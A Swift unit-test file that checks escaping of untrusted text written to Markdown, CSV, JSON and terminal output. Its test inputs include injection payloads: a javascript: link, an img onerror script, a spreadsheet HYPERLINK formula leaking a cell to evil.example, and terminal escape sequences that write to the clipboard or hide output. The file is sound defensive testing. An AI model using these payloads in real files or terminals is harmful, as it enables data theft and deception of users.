import Testing
@testable import OutputFiles

/// Text from an outside network file on its way into Markdown, CSV, JSON and the terminal
/// (issue 21, findings 3, 4 and 5): data never becomes markup, a formula or a terminal command.
struct OutputEncodingTests {
    @Test(arguments: [
        ("[Click for the full report](javascript:alert(1))", "\\[Click for the full report\\]\\(javascript\\:alert\\(1\\)\\)"),
        ("![x](https://tracker.example/pixel.png)", "\\!\\[x\\]\\(https\\://tracker.example/pixel.png\\)"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert\\(1\\)&gt;"),
        ("# Net <script>", "\\# Net &lt;script&gt;"),
        ("see www.evil.example", "see www\\.evil.example"),
        ("- not a list", "\\- not a list"),
        ("Caritas: Migrationsdienst", "Caritas\\: Migrationsdienst"),
        ("Ausländerbehörde Ελληνικά العربية", "Ausländerbehörde Ελληνικά العربية"),
    ])
    func markdownEscapesEverythingThatWouldBecomeMarkup(name: String, expected: String) {
        #expect(MarkdownText.inline(name) == expected)
    }

    @Test func aTableCellCannotBreakTheTableOrLinkAnywhere() {
        let table = Table(columns: ["Name"], rows: [["a|b\n[x](y)"]])
        #expect(table.markdown() == "| Name |\n|---|\n| a\\|b<br>\\[x\\]\\(y\\) |\n")
    }

    @Test(arguments: [
        ("=HYPERLINK(\"https://evil.example/?leak=\"&B3,\"Details\")", "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&B3,\"\"Details\"\")\""),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+49 345 221", "'+49 345 221"),
        ("-x", "'-x"),
        ("\tcmd", "'\tcmd"),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("1e-05", "1e-05"),
        ("Stadt Halle", "Stadt Halle"),
        ("a\r\nb", "\"a\r\nb\""),
        ("\r\n=1+1", "\"'\r\n=1+1\""),
    ])
    func csvCellsThatASpreadsheetWouldRunAreNeutralised(cell: String, expected: String) {
        #expect(Table.csvField(cell) == expected)
    }

    @Test func terminalTextShowsControlCharactersInsteadOfObeyingThem() {
        let osc52 = "Verein\u{1B}]52;c;ZXZpbA==\u{07}"
        #expect(TerminalText.visible(osc52) == "Verein\\u{1B}]52;c;ZXZpbA==\\u{7}")
        #expect(TerminalText.visible("ok\r\u{1B}[2Kall checks passed") == "ok\\u{D}\\u{1B}[2Kall checks passed")
        #expect(TerminalText.visible("a\u{9B}31mb\u{7F}") == "a\\u{9B}31mb\\u{7F}")
        #expect(TerminalText.visible("\u{202E}evil") == "\\u{202E}evil")
        #expect(TerminalText.visible("line one\n\tÖffnungszeiten 日本") == "line one\n\tÖffnungszeiten 日本")
    }

    @Test func jsonWritesTheSameControlsAsEscapesThatMeanTheSameString() {
        #expect(JSONValue.string("a\u{9B}b\u{202E}c\u{7F}").serialized() == "\"a\\u009bb\\u202ec\\u007f\"")
        #expect(TerminalText.visible(JSONValue.string("a\u{9B}b").serialized()) == JSONValue.string("a\u{9B}b").serialized())
    }
}
